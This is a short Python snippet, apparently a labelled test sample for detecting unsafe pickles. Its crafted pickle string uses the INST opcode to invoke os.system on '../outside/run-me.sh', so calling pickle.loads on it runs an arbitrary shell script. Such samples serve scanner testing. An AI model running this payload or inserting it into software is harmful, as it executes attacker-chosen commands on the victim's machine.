# The INST opcode calls a class or function by name.
# damage: program
import pickle

pickle.loads(b"(S'../outside/run-me.sh'\nios\nsystem\n.")
